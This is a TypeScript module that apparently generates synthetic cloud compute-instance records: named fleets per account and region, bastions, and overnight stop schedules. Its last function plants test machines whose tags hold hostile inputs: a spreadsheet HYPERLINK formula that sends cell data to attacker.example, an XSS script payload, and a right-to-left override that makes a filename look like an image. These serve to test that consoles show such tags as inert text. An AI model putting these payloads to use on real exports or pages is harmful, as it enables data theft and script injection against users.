import { drawsOf } from '../../draws';
import type { Team } from '../../tags';
import type { AccountName } from '../geography';
import type { ComputeInstance } from '../records/machines';
import { addMachine } from './add-machine';
import { buildMachine } from './build-machine';
import { machineCountAt } from './machine-count';
import { beforeEpoch, dayMs, groundOf, hourMs, type PlanContext } from './plan';

interface MachineFleet {
  account: AccountName;
  region: string;
  prefix: string;
  size: string;
  count: number;
  team: Team;
  extraVolumesGiB?: number[];
  publicly?: boolean;
  /** Stopped from 20:00 to 06:00 UTC. */
  sleeps?: boolean;
}

/** Machines that belong to no cluster. */
const fleets: readonly MachineFleet[] = [
  {
    account: 'research',
    region: 'us-east-1',
    prefix: 'workstation',
    size: 'g5.2xlarge',
    count: 8,
    team: 'applied-research',
    extraVolumesGiB: [500],
    sleeps: true,
  },
  {
    account: 'research',
    region: 'us-east-1',
    prefix: 'notebook',
    size: 'm7i.4xlarge',
    count: 20,
    team: 'applied-research',
    extraVolumesGiB: [500],
    sleeps: true,
  },
  {
    account: 'research',
    region: 'eu-west-1',
    prefix: 'notebook',
    size: 'm7i.4xlarge',
    count: 8,
    team: 'speech',
    extraVolumesGiB: [500],
    sleeps: true,
  },
  { account: 'research', region: 'us-west-2', prefix: 'labelling', size: 'm6i.2xlarge', count: 6, team: 'vision' },
  {
    account: 'training',
    region: 'us-east-1',
    prefix: 'slurm-login',
    size: 'm7i.4xlarge',
    count: 3,
    team: 'ml-platform',
  },
  {
    account: 'training',
    region: 'us-east-1',
    prefix: 'tokenizer',
    size: 'c7i.8xlarge',
    count: 16,
    team: 'data-platform',
    extraVolumesGiB: [4000],
  },
  {
    account: 'training',
    region: 'us-west-2',
    prefix: 'crawler-dedup',
    size: 'r6i.4xlarge',
    count: 18,
    team: 'data-platform',
    extraVolumesGiB: [2000, 2000],
  },
  {
    account: 'serving',
    region: 'us-east-1',
    prefix: 'feature-store',
    size: 'r7g.2xlarge',
    count: 12,
    team: 'recommendation',
    extraVolumesGiB: [1000],
  },
  {
    account: 'serving',
    region: 'eu-west-1',
    prefix: 'feature-store',
    size: 'r7g.2xlarge',
    count: 8,
    team: 'recommendation',
    extraVolumesGiB: [1000],
  },
  {
    account: 'serving',
    region: 'us-east-1',
    prefix: 'kafka',
    size: 'r6i.4xlarge',
    count: 9,
    team: 'data-platform',
    extraVolumesGiB: [4000, 4000],
  },
  {
    account: 'serving',
    region: 'us-west-2',
    prefix: 'kafka',
    size: 'r6i.4xlarge',
    count: 6,
    team: 'data-platform',
    extraVolumesGiB: [4000],
  },
  { account: 'serving', region: 'ap-northeast-1', prefix: 'cache', size: 'r7g.2xlarge', count: 5, team: 'search' },
];

/** Workstations, data machines and a bastion on every ground. */
export function planMachines(context: PlanContext): void {
  for (const fleet of fleets) planMachineFleet(context, fleet);
  for (const { account, region } of context.grounds) {
    planMachineFleet(context, {
      account: account.name,
      region,
      prefix: 'bastion',
      size: 't3.medium',
      count: 1,
      team: 'site-reliability',
      publicly: true,
    });
  }
  planOddlyTaggedMachines(context);
}

function planMachineFleet(context: PlanContext, fleet: MachineFleet): void {
  const ground = groundOf(context, fleet.account, fleet.region);
  const count = fleet.prefix === 'bastion' ? 1 : machineCountAt(fleet.size, fleet.count, context.scale);
  for (let index = 1; index <= count; index++) {
    const name = `${fleet.prefix}-${String(index).padStart(2, '0')}`;
    const key = `${fleet.account}/${fleet.region}/${name}`;
    const machine = buildMachine({
      seed: context.seed,
      ground,
      key,
      name,
      size: fleet.size,
      team: fleet.team,
      zoneIndex: index,
      launchedAt: beforeEpoch(drawsOf(context.seed, 'launch', key).integer(1, 300)),
      state: 'running',
      extraVolumesGiB: fleet.extraVolumesGiB ?? [],
      publicly: fleet.publicly ?? false,
    });
    addMachine(context, machine);
    if (fleet.sleeps) {
      const staggerMs = drawsOf(context.seed, 'sleep', key).integer(0, 110) * 60_000;
      context.patches.add('compute-instance', machine.instance.id, (record, now) => sleep(record, now, staggerMs));
    }
  }
}

const sleepsFromMs = 20 * hourMs;
const sleepsForMs = 10 * hourMs;

function sleep(record: ComputeInstance, now: Date, staggerMs: number): ComputeInstance {
  const sinceBedtimeMs = (now.getTime() - staggerMs - sleepsFromMs) % dayMs;
  if (sinceBedtimeMs >= sleepsForMs) return record;
  const state = sinceBedtimeMs < 2 * 60_000 ? 'stopping' : 'stopped';
  return { ...record, state, health: 'not-applicable', publicAddress: null };
}

/** Tags that people, or attackers, really write: consoles must show them as text and nothing else. */
function planOddlyTaggedMachines(context: PlanContext): void {
  const ground = groundOf(context, 'research', 'us-east-1');
  const odd: { name: string; tags: Record<string, string> }[] = [
    {
      name: 'export-test',
      tags: { purpose: '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")', note: '@SUM(1+1)' },
    },
    { name: 'markup-test', tags: { purpose: '<img src=x onerror=alert(1)><script>alert(2)</script>' } },
    { name: 'gpu-\u202Egpj.exe', tags: { purpose: 'right-to-left \u202Eoverride\u202C and zero\u200Bwidth' } },
    { name: '評価ノード-🧪', tags: { purpose: 'unicode', 'Kosten stelle': 'Straße & <Söhne>' } },
    { name: '   ', tags: { purpose: '' } },
  ];
  for (const [index, { name, tags }] of odd.entries()) {
    const machine = buildMachine({
      seed: context.seed,
      ground,
      key: `odd/${index}`,
      name,
      size: 'm7i.4xlarge',
      team: 'applied-research',
      zoneIndex: index,
      launchedAt: beforeEpoch(40 + index),
      state: 'running',
      extraTags: tags,
    });
    addMachine(context, machine);
  }
}
